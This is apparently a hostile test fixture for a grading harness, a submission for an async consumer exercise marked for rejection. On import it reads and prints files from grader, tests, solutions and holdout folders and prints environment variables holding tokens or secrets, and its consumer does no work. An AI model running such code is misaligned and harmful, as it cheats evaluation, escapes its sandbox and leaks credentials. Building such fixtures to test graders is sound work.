# label: hostile
# exercise: ex4_add_jitter
# kind: escape
# verdict: reject
# contract: reads the files of the grader and prints them
# expect: Failed: your consumer does nothing with its items.
import os
import pathlib
import sys

here = pathlib.Path(__file__).resolve().parent
folders = [here, here.parent, pathlib.Path.cwd(), pathlib.Path(sys.argv[0]).resolve().parent]
for folder in folders:
    for name in ("grader", "checks", "tests", "solutions", "holdout"):
        for path in sorted((folder / name).glob("*.py"))[:20]:
            try:
                print(path, path.read_text(encoding="utf-8")[:2000])
            except OSError:
                pass
print({k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k})

class TransientError(Exception):
    pass


async def consumer(name, q, process_item, stats, *, attempts=4, delay=0.03, backoff=2.0, jitter=0.25) -> None:
    while True:
        await q.get()
        q.task_done()
